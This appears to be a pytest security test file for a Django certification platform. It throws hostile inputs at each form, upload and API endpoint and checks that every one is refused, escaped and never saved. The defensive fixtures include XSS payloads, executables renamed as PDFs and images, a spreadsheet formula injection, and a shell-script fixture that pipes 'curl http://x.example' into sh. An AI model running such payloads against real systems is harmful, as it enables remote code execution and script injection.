"""Hostile input thrown at every input of the platform (issue #9, « Security »).

The corpus is data: each list below is a catalogue of (where, what, expected), and one parametrized test walks it.
Every refusal is a 200 page with a French message next to the field, never a 500, and nothing half-saved (the rows
a success would write are counted before and after). HTML and script are always escaped where they are shown.
"""

import datetime
import html
import re
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from labelsp.accounts.enums import Role
from tests.accounts.factories import MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()


def _error_next_to(content: str, field_id: str) -> str | None:
    """The text of the DSFR error paragraph attached to a field (`<p class="fr-error-text" id="<id>-error">`)."""
    match = re.search(rf'<p class="fr-error-text" id="{re.escape(field_id)}-error">(.*?)</p>', content, re.S)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", match.group(1))).split()) if match else None


@dataclass
class Target:
    """A form as a person posts it: who, where, valid data, and the rows a success would write."""

    client: object
    url: str
    data: dict
    rows: Callable[[], object]
    prefix: str = ""
    files: dict = field(default_factory=dict)
    # The pages that show a saved text field, as (user, url) pairs; by default, the page the save leads to.
    shown_on: Callable[[str], list] = lambda name: []

    def field_id(self, name: str) -> str:
        return f"id_{self.prefix}-{name}" if self.prefix else f"id_{name}"

    def key(self, name: str) -> str:
        return f"{self.prefix}-{name}" if self.prefix else name


def _manager(body):
    return MembershipFactory(role=Role.CB_MANAGER, organisation=body).user


def _iso(days: int) -> str:
    return (TODAY + datetime.timedelta(days=days)).isoformat()


# --- The forms under attack ----------------------------------------------------------------------------------------


def suspension_form(login) -> Target:
    from decisions.enums import SuspensionReason
    from decisions.models import Suspension
    from tests.decisions.factories import LabelFactory

    label = LabelFactory()
    return Target(
        client=login(_manager(label.certification_body)),
        url=reverse("decisions:suspension_create", args=[label.pk]),
        prefix="suspension",
        data={
            "suspension-reason": SuspensionReason.POSTPONEMENTS,
            "suspension-details": "Deux reports successifs.",
            "suspension-starts_on": _iso(0),
            "suspension-ends_on": _iso(30),
        },
        rows=lambda: (Suspension.objects.count(), Suspension.history.count()),
    )


def suspension_lift_form(login) -> Target:
    from decisions import services_lifecycle
    from decisions.enums import SuspensionReason
    from decisions.models import Suspension
    from tests.decisions.factories import LabelFactory

    label = LabelFactory()
    manager = _manager(label.certification_body)
    suspension = services_lifecycle.suspension_create(
        user=manager,
        label=label,
        reason=SuspensionReason.POSTPONEMENTS,
        details="",
        starts_on=TODAY,
        ends_on=TODAY + datetime.timedelta(days=60),
    )
    return Target(
        client=login(manager),
        url=reverse("decisions:suspension_lift", args=[suspension.pk]),
        prefix="lift",
        data={"lift-lifted_on": _iso(0)},
        rows=lambda: Suspension.objects.filter(lifted_on__isnull=False).count(),
    )


def withdrawal_form(login) -> Target:
    from decisions.enums import WithdrawalReason
    from decisions.models import Withdrawal
    from tests.decisions.factories import LabelFactory

    label = LabelFactory()
    return Target(
        client=login(_manager(label.certification_body)),
        url=reverse("decisions:withdrawal_create", args=[label.pk]),
        prefix="withdrawal",
        data={
            "withdrawal-reason": WithdrawalReason.TRADEMARK_BREACH,
            "withdrawal-details": "Usage de la marque hors périmètre.",
            "withdrawal-effective_on": _iso(10),
        },
        rows=lambda: Withdrawal.objects.count(),
    )


def habilitation_grant_form(login) -> Target:
    from registry.enums import HabilitationStatus
    from registry.models import HabilitationLog
    from tests.registry.factories import CertificationBodyFactory

    body = CertificationBodyFactory(habilitation_status=HabilitationStatus.WITHDRAWN)
    return Target(
        client=login(MembershipFactory(role=Role.DITP).user),
        url=reverse("registry:habilitation_grant", args=[body.pk]),
        prefix="grant",
        data={"grant-signed_on": _iso(0), "grant-starts_on": _iso(0), "grant-reason": "Dossier complet."},
        rows=lambda: HabilitationLog.objects.count(),
    )


def audit_plan_form(login) -> Target:
    from audits.models import Audit
    from tests.audits.factories import AuditFactory
    from tests.candidates.factories import SiteFactory

    audit = AuditFactory()
    site = SiteFactory(local_service=audit.local_service)
    return Target(
        client=login(_manager(audit.certification_body)),
        url=reverse("audits:plan_edit", args=[audit.pk]),
        data={
            "visit_start": _iso(40),
            "visit_end": _iso(41),
            "duration_days": "1,5",
            "sites": [site.pk],
            "resource_persons": "Mme Qualité",
            "agenda": "Ouverture à 9 h",
        },
        rows=lambda: Audit.objects.filter(visit_start__isnull=False).count(),
    )


def campaign_form(login) -> Target:
    from surveys.models import Campaign

    user = UserFactory(candidate=True)
    return Target(
        client=login(user),
        url=reverse("surveys:campaign_create"),
        data={
            "kind": "users",
            "opens_on": _iso(0),
            "closes_on": _iso(30),
            "population": "400",
            "sampling_method": "Tirage aléatoire de 400 usagers.",
        },
        rows=lambda: Campaign.objects.count(),
    )


def contract_form(login) -> Target:
    from candidates.models import ServiceContract
    from tests.registry.factories import CertificationBodyFactory

    user = UserFactory(candidate=True)
    body = CertificationBodyFactory()
    return Target(
        client=login(user),
        url=reverse("candidates:contract_create"),
        data={
            "certification_body": body.pk,
            "signed_on": _iso(-10),
            "cycle_start": _iso(0),
            "unit_count": "2",
        },
        rows=lambda: ServiceContract.objects.count(),
    )


def application_form(login) -> Target:
    from candidates.models import Application
    from tests.candidates.factories import ApplicationFactory

    user = UserFactory(candidate=True)
    local = user.memberships.get().local_service
    application = ApplicationFactory(contract__local_service=local)
    return Target(
        client=login(user),
        url=reverse("candidates:application_edit", args=[application.pk]),
        data={"audit_start": _iso(60), "audit_end": _iso(61), "self_assessment_on": _iso(-30)},
        rows=lambda: Application.history.count(),
    )


def registration_form(login) -> Target:
    from candidates.enums import LocalServiceKind, SiteKind
    from candidates.models import LocalService, Site
    from labelsp.validators import complete_siret
    from tests.candidates.factories import EligibleCategoryFactory

    category = EligibleCategoryFactory(kind=LocalServiceKind.STATE_DECONCENTRATED)
    site = {
        "name": "Hôtel de préfecture",
        "kind": SiteKind.PRINCIPAL,
        "street": "18 rue de Bonnel",
        "postal_code": "69003",
        "city": "Lyon",
        "departement": "69",
        "agents_in_contact": "40",
    }
    user = UserFactory()
    return Target(
        client=login(user),
        url=reverse("candidates:register"),
        data={
            "category": category.pk,
            "name": "Préfecture du Rhône",
            "parent": "",
            "siret": complete_siret("1309000000001"),
            "street": "18 rue de Bonnel",
            "postal_code": "69003",
            "city": "Lyon",
            "departement": "69",
            "contact_name": "Camille Martin",
            "contact_email": "camille.martin@rhone.gouv.fr",
            "contact_phone": "04 72 61 60 60",
            "sites-TOTAL_FORMS": "1",
            "sites-INITIAL_FORMS": "0",
            "sites-MIN_NUM_FORMS": "1",
            "sites-MAX_NUM_FORMS": "50",
            **{f"sites-0-{name}": value for name, value in site.items()},
        },
        rows=lambda: (LocalService.objects.count(), Site.objects.count()),
        shown_on=lambda name: [
            (user, reverse("candidates:local_service_detail", args=[LocalService.objects.get().pk])),
            *([(user, reverse("accounts:dashboard"))] if name == "name" else []),
        ],
    )


def site_add_form(login) -> Target:
    from candidates.enums import SiteKind
    from candidates.models import Site

    user = UserFactory(candidate=True)
    service = user.memberships.get().local_service
    return Target(
        client=login(user),
        url=reverse("candidates:site_add", args=[service.pk]),
        data={
            "name": "Antenne de Villefranche",
            "kind": SiteKind.SECONDARY,
            "street": "Boulevard Burdeau",
            "postal_code": "69400",
            "city": "Villefranche-sur-Saône",
            "departement": "69",
            "agents_in_contact": "12",
        },
        rows=lambda: Site.objects.count(),
    )


def site_edit_form(login) -> Target:
    from candidates.models import Site
    from tests.candidates.factories import SiteFactory

    target = site_add_form(login)
    service = target.client.get(target.url).wsgi_request.user.memberships.get().local_service
    site = SiteFactory(local_service=service)
    return Target(
        client=target.client,
        url=reverse("candidates:site_edit", args=[site.pk]),
        data=target.data,
        rows=lambda: Site.objects.filter(pk=site.pk, name=target.data["name"]).count(),
    )


def eligibility_request_form(login) -> Target:
    from candidates.enums import LocalServiceKind
    from candidates.models import EligibilityRequest

    user = UserFactory(candidate=True)
    ditp = MembershipFactory(role=Role.DITP).user
    return Target(
        client=login(user),
        url=reverse("candidates:eligibility_create"),
        data={
            "service_name": "Maison de la justice et du droit de Villeurbanne",
            "siret": "13002526500013",
            "kind": LocalServiceKind.STATE_DECONCENTRATED,
            "proposed_category": "Maisons de la justice et du droit",
            "justification": "Accès au droit : 4 000 personnes reçues par an.",
            "central_service": "",
        },
        rows=lambda: EligibilityRequest.objects.count(),
        shown_on=lambda name: [
            (user, reverse("candidates:eligibility_detail", args=[EligibilityRequest.objects.get().pk])),
            (ditp, reverse("candidates:eligibility_detail", args=[EligibilityRequest.objects.get().pk])),
            *(
                [
                    (user, reverse("candidates:eligibility_requests")),
                    (ditp, reverse("candidates:eligibility_requests")),
                ]
                if name != "justification"
                else []
            ),
        ],
    )


def eligibility_decision_form(action: str, role: str) -> Callable:
    def build(login) -> Target:
        from candidates.enums import EligibilityRequestStatus
        from candidates.models import EligibilityRequestLog, EligibleCategory
        from tests.candidates.factories import CentralServiceFactory, EligibilityRequestFactory

        central = CentralServiceFactory()
        status = (
            EligibilityRequestStatus.AWAITING_CENTRAL
            if role == Role.CENTRAL
            else EligibilityRequestStatus.SUBMITTED
        )
        request = EligibilityRequestFactory(central_service=central, status=status)
        organisation = {"organisation": central} if role == Role.CENTRAL else {}
        user = MembershipFactory(role=role, **organisation).user
        requester = request.requested_by
        return Target(
            client=login(user),
            url=reverse("candidates:eligibility_decide", args=[request.pk]),
            data={
                "action": action,
                "category_name": "Maisons de la justice et du droit",
                "reason": "Hors champ.",
            },
            rows=lambda: (EligibilityRequestLog.objects.count(), EligibleCategory.objects.count()),
            shown_on=lambda name: [
                (requester, reverse("candidates:eligibility_detail", args=[request.pk])),
                *([(requester, reverse("candidates:eligibility_list"))] if action == "accept" else []),
            ],
        )

    build.__name__ = f"eligibility_{action}_form"
    return build


def review_form(login) -> Target:
    from candidates.enums import ChecklistItem
    from candidates.models import ApplicationMessage
    from tests.candidates.factories import ApplicationFactory, attach_required_pieces

    application = ApplicationFactory(
        status="submitted", complete=True, submitted_at=timezone.now(), submission_count=1
    )
    attach_required_pieces(application)
    candidate = MembershipFactory(role=Role.CANDIDATE, organisation=application.local_service).user
    manager = _manager(application.certification_body)
    data = {"action": "request_complements", "message": "Joignez le plan de formation."}
    for item in ChecklistItem:
        data[f"{item}_ok"] = "on"
        data[f"{item}_comment"] = ""
    return Target(
        client=login(manager),
        url=reverse("candidates:application_review", args=[application.pk]),
        data=data,
        rows=lambda: ApplicationMessage.objects.count(),
        shown_on=lambda name: [
            (candidate, reverse("candidates:application_detail", args=[application.pk]))
            if name == "message"
            else (manager, reverse("candidates:application_review", args=[application.pk]))
        ],
    )


def report_form(login) -> Target:
    from audits.models import Audit
    from tests.audits.test_services_report import REPORT_PARTS, ready_audit

    audit, auditor = ready_audit(**dict.fromkeys(REPORT_PARTS, ""))
    return Target(
        client=login(auditor),
        url=reverse("audits:report_edit", args=[audit.pk]),
        data=REPORT_PARTS,
        rows=lambda: Audit.history.count(),
    )


def closing_meeting_form(login) -> Target:
    from audits.models import Audit
    from tests.audits.factories import AssignmentFactory, AuditFactory

    audit = AuditFactory(in_progress=True)
    auditor = AssignmentFactory(audit=audit, is_lead=True).auditor
    return Target(
        client=login(auditor),
        url=reverse("audits:closing_meeting", args=[audit.pk]),
        data={"closing_summary": "Restitution à chaud devant la directrice."},
        rows=lambda: Audit.history.count(),
        shown_on=lambda name: [
            (auditor, reverse("audits:report_edit", args=[audit.pk])),
            (auditor, reverse("audits:closing_meeting", args=[audit.pk])),
        ],
    )


def _reported_central_audit():
    from tests.audits.factories import AssignmentFactory, grade_all
    from tests.audits.test_services_report import central_audit, staff_of

    audit = central_audit(reported=True)
    auditor = AssignmentFactory(audit=audit, is_lead=True).auditor
    grade_all(audit, {"C3.4": 0.0}, user=auditor)
    return audit, auditor, staff_of(audit)


def observation_form(login) -> Target:
    from audits.models import Observation

    audit, auditor, staff = _reported_central_audit()
    return Target(
        client=login(staff),
        url=reverse("audits:report_answer", args=[audit.pk]),
        data={"text": "Le site annexe était en travaux."},
        rows=lambda: Observation.objects.count(),
        shown_on=lambda name: [(auditor, reverse("audits:report_answer", args=[audit.pk]))],
    )


def corrective_action_form(login) -> Target:
    from audits.models import CorrectiveAction

    audit, auditor, staff = _reported_central_audit()
    return Target(
        client=login(staff),
        url=reverse("audits:corrective_action_propose", args=[audit.pk]),
        data={"checkpoint": audit.grid.checkpoints.get(code="C3.4").pk, "proposal": "Nommer des référents."},
        rows=lambda: CorrectiveAction.objects.count(),
        shown_on=lambda name: [(auditor, reverse("audits:report_answer", args=[audit.pk]))],
    )


def corrective_judgement_form(login) -> Target:
    from audits import services
    from audits.models import CorrectiveAction

    audit, auditor, staff = _reported_central_audit()
    action = services.corrective_action_propose(
        user=staff, audit=audit, checkpoint_id=audit.grid.checkpoints.get(code="C3.4").pk, proposal="Former."
    )
    return Target(
        client=login(auditor),
        url=reverse("audits:corrective_action_judge", args=[action.pk]),
        prefix=f"action-{action.pk}",
        data={
            f"action-{action.pk}-judgement": "reject",
            f"action-{action.pk}-judgement_comment": "Sans échéance.",
        },
        rows=lambda: CorrectiveAction.objects.exclude(judgement="").count(),
        shown_on=lambda name: [(staff, reverse("audits:report_answer", args=[audit.pk]))],
    )


def action_plan_form(login) -> Target:
    from decisions.enums import DecisionOutcome
    from decisions.models import ActionPlanRequest
    from tests.decisions.factories import DecisionFactory, LabelFactory

    label = LabelFactory()
    decision = DecisionFactory(
        application=label.decision.application, outcome=DecisionOutcome.ACTION_PLAN, tier="", decided_on=TODAY
    )
    plan = ActionPlanRequest.objects.create(
        decision=decision, label=label, due_on=TODAY + datetime.timedelta(days=30)
    )
    manager = _manager(label.certification_body)
    return Target(
        client=login(MembershipFactory(role=Role.CANDIDATE, organisation=label.local_service).user),
        url=reverse("decisions:action_plan_submit", args=[plan.pk]),
        prefix="plan",
        data={"plan-summary": "Former les agents d’accueil d’ici juin."},
        rows=lambda: ActionPlanRequest.objects.filter(submitted_at__isnull=False).count(),
        shown_on=lambda name: [(manager, reverse("decisions:label_detail", args=[label.pk]))],
    )


def _refusal():
    from decisions.enums import DecisionOutcome
    from tests.decisions.factories import DecisionFactory

    return DecisionFactory(outcome=DecisionOutcome.REFUSAL, tier="", motivation="Engagement 4 insuffisant.")


def appeal_form(login) -> Target:
    from decisions.models import Appeal

    decision = _refusal()
    manager = _manager(decision.certification_body)
    return Target(
        client=login(MembershipFactory(role=Role.CANDIDATE, organisation=decision.local_service).user),
        url=reverse("decisions:appeal_file", args=[decision.pk]),
        prefix="appeal",
        data={"appeal-grounds": "Scores mal reportés."},
        rows=lambda: Appeal.objects.count(),
        shown_on=lambda name: [(manager, reverse("decisions:decision_appeals", args=[decision.pk]))],
    )


def appeal_record_form(login) -> Target:
    from decisions import services_lifecycle
    from decisions.enums import AppealStatus
    from decisions.models import Appeal

    decision = _refusal()
    staff = MembershipFactory(role=Role.CANDIDATE, organisation=decision.local_service).user
    appeal = services_lifecycle.appeal_file(user=staff, decision=decision, grounds="Scores mal reportés.")
    return Target(
        client=login(_manager(decision.certification_body)),
        url=reverse("decisions:appeal_record", args=[appeal.pk]),
        prefix="record",
        data={
            "record-status": AppealStatus.DISMISSED,
            "record-committee_opinion": "Scores vérifiés.",
            "record-motivation": "",
        },
        rows=lambda: Appeal.objects.exclude(status=AppealStatus.FILED).count(),
        shown_on=lambda name: [(staff, reverse("decisions:decision_appeals", args=[decision.pk]))],
    )


def habilitation_form(action: str, status: str = "") -> Callable:
    def build(login) -> Target:
        from registry.models import HabilitationLog
        from tests.registry.factories import CertificationBodyFactory

        body = CertificationBodyFactory(**({"habilitation_status": status} if status else {}))
        ditp = MembershipFactory(role=Role.DITP).user
        return Target(
            client=login(ditp),
            url=reverse(f"registry:habilitation_{action}", args=[body.pk]),
            prefix=action,
            data={f"{action}-reason": "Audit de surveillance défavorable.", f"{action}-signed_on": _iso(0)},
            rows=lambda: HabilitationLog.objects.count(),
            shown_on=lambda name: [(ditp, reverse("registry:habilitation_detail", args=[body.pk]))],
        )

    build.__name__ = f"habilitation_{action}_form"
    return build


def perimeter_form(login) -> Target:
    from candidates.enums import LocalServiceKind
    from candidates.models import ServiceDomain
    from tests.candidates.factories import LocalServiceFactory

    service = LocalServiceFactory(kind=LocalServiceKind.EPCI)
    return Target(
        client=login(MembershipFactory(role=Role.CANDIDATE, organisation=service).user),
        url=reverse("candidates:perimeter_edit", args=[service.pk]),
        data={"domains": ["general_reception", "urbanism", "other"], "other_detail": "Office de tourisme"},
        rows=lambda: ServiceDomain.objects.count(),
    )


def close_form(login) -> Target:
    from candidates.models import Application
    from tests.candidates.factories import ApplicationFactory

    application = ApplicationFactory(status="acknowledged", complete=True, submitted_at=timezone.now())
    candidate = MembershipFactory(role=Role.CANDIDATE, organisation=application.local_service).user
    return Target(
        client=login(_manager(application.certification_body)),
        url=reverse("candidates:application_close", args=[application.pk]),
        data={"outcome": "refused", "refusal_notified_on": _iso(-1), "reason": "Audit défavorable."},
        rows=lambda: Application.objects.filter(status="closed").count(),
        shown_on=lambda name: [(candidate, reverse("candidates:application_detail", args=[application.pk]))],
    )


def withdraw_form(login) -> Target:
    from candidates.models import Application
    from tests.candidates.factories import ApplicationFactory

    user = UserFactory(candidate=True)
    application = ApplicationFactory(contract__local_service=user.memberships.get().local_service)
    return Target(
        client=login(user),
        url=reverse("candidates:application_withdraw", args=[application.pk]),
        data={"reason": "Réorganisation du service.", "confirm": "on"},
        rows=lambda: Application.objects.filter(status="closed").count(),
    )


habilitation_suspend_form = habilitation_form("suspend")
habilitation_withdraw_form = habilitation_form("withdraw")
habilitation_renew_form = habilitation_form("renew")
habilitation_lift_form = habilitation_form("lift", status="suspended")
eligibility_decline_form = eligibility_decision_form("decline", Role.CENTRAL)
eligibility_accept_form = eligibility_decision_form("accept", Role.DITP)
eligibility_refuse_form = eligibility_decision_form("refuse", Role.DITP)


# --- Dates out of range --------------------------------------------------------------------------------------------

BAD_DATES = {
    "year 1": "0001-01-01",
    "year 9999": "9999-12-31",
    "31 February": "2027-02-31",
    "far past": "1850-06-01",
    "far future": "2999-06-01",
    "not a date": "demain",
}

DATE_FIELDS = [
    (suspension_form, "starts_on"),
    (suspension_form, "ends_on"),
    (suspension_lift_form, "lifted_on"),
    (withdrawal_form, "effective_on"),
    (habilitation_grant_form, "starts_on"),
    (habilitation_grant_form, "signed_on"),
    (audit_plan_form, "visit_start"),
    (audit_plan_form, "visit_end"),
    (campaign_form, "opens_on"),
    (campaign_form, "closes_on"),
    (contract_form, "signed_on"),
    (contract_form, "cycle_start"),
    (application_form, "audit_start"),
    (application_form, "self_assessment_on"),
]


@pytest.mark.parametrize("value", BAD_DATES.values(), ids=BAD_DATES.keys())
@pytest.mark.parametrize(("form", "name"), DATE_FIELDS, ids=[f"{f.__name__}-{n}" for f, n in DATE_FIELDS])
def test_a_date_out_of_range_is_refused_next_to_its_field(login, form, name, value):
    target = form(login)
    before = target.rows()
    response = target.client.post(target.url, {**target.data, target.key(name): value})
    assert response.status_code == 200, response.status_code
    error = _error_next_to(response.content.decode(), target.field_id(name))
    assert error, f"no error next to {name}"
    assert target.rows() == before


# --- Grades through the tablet's API (audits/views/api.py) -----------------------------------------------------------
# tests/audits/test_grading.py already throws sNaN, NaN, Infinity, 0.5, -1, [1] and broken envelopes at it.

BAD_POINTS = {
    "negative": "-0.25",
    "two": "2",
    "0.3": "0.3",
    "abc": "abc",
    "huge": "1e400",
    "huge number": 10**30,
    "float NaN literal": "nan",
    "boolean": True,
    "object": {"points": 1},
    "html": "<script>alert(1)</script>",
}


@pytest.mark.parametrize("points", BAD_POINTS.values(), ids=BAD_POINTS.keys())
def test_an_out_of_scale_grade_is_refused_with_a_message_and_nothing_recorded(login, points):
    import json
    import uuid

    from audits.models import Grade, GradeOperation
    from tests.audits.factories import AssignmentFactory, AuditFactory

    audit = AuditFactory(planned=True)
    auditor = AssignmentFactory(audit=audit).auditor
    checkpoint = audit.grid.checkpoints.first()
    op = {
        "op": str(uuid.uuid4()),
        "checkpoint": checkpoint.pk,
        "points": points,
        "comment": "",
        "base_version": 0,
    }
    response = login(auditor).post(
        reverse("audits:grade_batch", args=[audit.pk]),
        data=json.dumps({"device": "tablette", "ops": [op]}),
        content_type="application/json",
    )
    assert response.status_code == 200
    [result] = response.json()["results"]
    assert result["status"] == "invalid"
    assert result["message"] == "Note hors de l’échelle : 0, 0,25, 0,75 ou 1.", result["message"]
    assert "<script>" not in response.content.decode()
    assert not Grade.objects.filter(audit=audit).exists()
    assert not GradeOperation.objects.filter(audit=audit).exclude(outcome="invalid").exists()


BAD_BODIES = {
    "not json": b"<html>",
    "a list": b"[1, 2]",
    "invalid utf-8": b'{"device": "\xff\xfe"}',
    "ops not a list": b'{"device": "t", "ops": "x"}',
    "no ops": b'{"device": "t", "ops": []}',
    "201 ops": None,
}


@pytest.mark.parametrize("body", BAD_BODIES.values(), ids=BAD_BODIES.keys())
def test_an_unreadable_grade_batch_is_a_400_with_a_message(login, body):
    import json

    from audits.models import Grade
    from tests.audits.factories import AssignmentFactory, AuditFactory

    audit = AuditFactory(planned=True)
    auditor = AssignmentFactory(audit=audit).auditor
    if body is None:
        checkpoint = audit.grid.checkpoints.first()
        op = {"op": "", "checkpoint": checkpoint.pk, "points": "1", "comment": "", "base_version": 0}
        body = json.dumps({"device": "t", "ops": [op] * 201}).encode()
    response = login(auditor).post(
        reverse("audits:grade_batch", args=[audit.pk]), data=body, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.json()["error"]
    assert not Grade.objects.filter(audit=audit).exists()


# --- Hostile files -------------------------------------------------------------------------------------------------


def _png() -> bytes:
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def _zip() -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("virus.exe", b"MZ" + b"\x00" * 100)
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'"
HOSTILE_FILES = {
    "ELF renamed .pdf": ("rapport.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"\x02\x00\x3e\x00" * 50),
    "PE/MZ renamed .png": (
        "photo.png",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" * 40,
    ),
    "shell script renamed .jpg": ("photo.jpg", b"#!/bin/sh\ncurl http://x.example | sh\n"),
    "ZIP renamed .pdf": ("rapport.pdf", _zip()),
    "HTML renamed .png": ("photo.png", f"<!DOCTYPE html><html><body>{SCRIPT}</body></html>".encode()),
    "SVG with script renamed .png": (
        "photo.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    "empty": ("rapport.pdf", b""),
}


@dataclass
class Upload:
    """An upload input: post a file, read the error shown for it, count what a success would store."""

    post: Callable
    error: Callable
    rows: Callable


def document_upload(login):
    from candidates.models import ApplicationDocument
    from tests.candidates.factories import ApplicationFactory

    user = UserFactory(candidate=True)
    application = ApplicationFactory(contract__local_service=user.memberships.get().local_service)
    client = login(user)
    url = reverse("candidates:document_upload", args=[application.pk])
    return Upload(
        post=lambda upload: client.post(url, {"piece": "org_chart", "file": upload}),
        error=lambda response: _error_next_to(response.content.decode(), "id_file"),
        rows=lambda: ApplicationDocument.objects.count(),
    )


def message_attachment(login):
    from candidates.models import ApplicationDocument, ApplicationMessage
    from tests.candidates.factories import ApplicationFactory

    user = UserFactory(candidate=True)
    application = ApplicationFactory(
        contract__local_service=user.memberships.get().local_service, status="submitted"
    )
    client = login(user)
    url = reverse("candidates:message_post", args=[application.pk])
    return Upload(
        # A good attachment beside the bad one: the message and the good file must not be half-saved.
        post=lambda upload: client.post(
            url, {"body": "Voici les pièces.", "attachments": [SimpleUploadedFile("ok.pdf", PDF), upload]}
        ),
        error=lambda response: _error_next_to(response.content.decode(), "id_attachments"),
        rows=lambda: (ApplicationMessage.objects.count(), ApplicationDocument.objects.count()),
    )


def evidence_photo(login):
    import uuid

    from audits.models import EvidencePhoto
    from tests.audits.factories import AssignmentFactory, AuditFactory

    audit = AuditFactory(in_progress=True)
    client = login(AssignmentFactory(audit=audit).auditor)
    checkpoint = audit.grid.checkpoints.first()
    url = reverse("audits:photo_upload", args=[audit.pk])

    def error(response):
        assert response.status_code == 400, response.status_code
        return " ".join(response.json()["errors"]["photo"])

    return Upload(
        post=lambda upload: client.post(
            url, {"op": str(uuid.uuid4()), "checkpoint": checkpoint.pk, "photo": upload}
        ),
        error=error,
        rows=lambda: EvidencePhoto.objects.count(),
    )


def attestation_check(login):
    from django.test import Client

    client = Client()
    url = reverse("decisions:attestation_check_upload")
    return Upload(
        post=lambda upload: client.post(url, {"document": upload}),
        error=lambda response: _error_next_to(response.content.decode(), "id_document"),
        rows=lambda: 0,
    )


UPLOADS = [document_upload, message_attachment, evidence_photo, attestation_check]
EXPECTED_FILE_ERROR = {"empty": "est vide."}


@pytest.mark.parametrize("name", HOSTILE_FILES, ids=HOSTILE_FILES.keys())
@pytest.mark.parametrize("upload_input", UPLOADS, ids=[f.__name__ for f in UPLOADS])
def test_a_hostile_file_is_refused_next_to_its_field_and_nothing_is_stored(login, upload_input, name):
    filename, content = HOSTILE_FILES[name]
    target = upload_input(login)
    before = target.rows()
    response = target.post(SimpleUploadedFile(filename, content, content_type="application/pdf"))
    assert response.status_code in (200, 400), response.status_code
    error = target.error(response)
    assert error, "no error next to the file field"
    assert EXPECTED_FILE_ERROR.get(name, "Ce type de fichier n’est pas accepté") in error, error
    assert SCRIPT not in response.content.decode()
    assert target.rows() == before


LIMITS = {
    document_upload: ("django.conf.settings.UPLOAD_MAX_BYTES", PDF),
    message_attachment: ("django.conf.settings.UPLOAD_MAX_BYTES", PDF),
    evidence_photo: ("audits.services.PHOTO_MAX_BYTES", None),
    attestation_check: ("decisions.forms.attestations.MAX_BYTES", PDF),
}


@pytest.mark.parametrize("upload_input", UPLOADS, ids=[f.__name__ for f in UPLOADS])
def test_a_file_at_the_size_limit_is_accepted_one_byte_more_is_refused(login, monkeypatch, upload_input):
    setting, content = LIMITS[upload_input]
    content = content or _png()
    limit = 4096
    monkeypatch.setattr(setting, limit)
    padded = content + b"\n" * (limit - len(content))
    target = upload_input(login)
    before = target.rows()
    response = target.post(SimpleUploadedFile("piece.bin", padded + b"\n"))
    assert "dépasse la taille maximale de 4,0" in target.error(response)
    assert target.rows() == before
    response = target.post(SimpleUploadedFile("piece.bin", padded))
    assert response.status_code in (201, 302, 200), response.status_code
    if response.status_code == 200:
        assert target.error(response) is None  # the public check shows a verdict, not an error
    assert target.rows() != before or upload_input is attestation_check


def test_a_pdf_html_polyglot_is_only_ever_served_as_a_sandboxed_download(login):
    """A file that is a PDF for libmagic and HTML for a browser is accepted as a PDF; the download never renders."""
    from candidates.models import ApplicationDocument

    target = document_upload(login)
    polyglot = PDF + f"<html><body>{SCRIPT}</body></html>".encode()
    assert target.post(SimpleUploadedFile("piece.html", polyglot)).status_code == 302
    document = ApplicationDocument.objects.get()
    assert document.original_name == "piece.pdf" and document.content_type == "application/pdf"
    user = document.uploaded_by
    response = login(user).get(reverse("candidates:document_download", args=[document.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


# --- Malformed CSV files of answers (surveys/imports.py; tests/surveys/test_imports.py covers the reader itself) --


def _answers_header() -> str:
    from surveys.models import Questionnaire

    return ";".join(
        Questionnaire.objects.current("users").questions.order_by("position").values_list("code", flat=True)
    )


MALFORMED_CSV = {
    "wrong delimiter": (
        lambda h: f"{h.replace(';', '|')}\n{'|'.join('1' * (h.count(';') + 1))}\n",
        "n’est pas une question",
    ),
    "ragged row": (lambda h: f"{h}\n1;2;3\n", "valeurs au lieu de"),
    "invalid UTF-8 and cp1252": (
        lambda h: f"{h}\n".encode() + b"\x81\x8d\x8f\x90\x9d\n",
        "ni en UTF-8 ni en Windows-1252",
    ),
    "NUL bytes": (lambda h: f"{h}\n".encode() + b"1\x00;2\n", "n’est pas un fichier texte"),
    "BOM and header only": (lambda h: "\ufeff" + h + "\n", "ne contient que l’en-tête"),
    "unknown column": (
        lambda h: f"{h};<script>alert(1)</script>\n",
        "n’est pas une question de ce questionnaire",
    ),
    "formula in a cell": (
        lambda h: h + "\n" + ";".join(["=1+1"] * (h.count(";") + 1)) + "\n",
        "hors de l’échelle",
    ),
    "an executable renamed .csv": (lambda h: b"MZ\x90\x00" + b"\x00" * 64, "n’est pas un fichier texte"),
}


@pytest.mark.parametrize("name", MALFORMED_CSV, ids=MALFORMED_CSV.keys())
def test_a_malformed_csv_import_is_refused_whole_with_a_french_reason(login, name):
    from surveys.models import AnswerImport, Response
    from tests.surveys.factories import CampaignFactory

    build, reason = MALFORMED_CSV[name]
    user = UserFactory(candidate=True)
    campaign = CampaignFactory(local_service=user.memberships.get().local_service)
    content = build(_answers_header())
    content = content.encode() if isinstance(content, str) else content
    response = login(user).post(
        reverse("surveys:campaign_import", args=[campaign.pk]),
        {"file": SimpleUploadedFile("reponses.csv", content, content_type="text/csv")},
    )
    assert response.status_code == 200
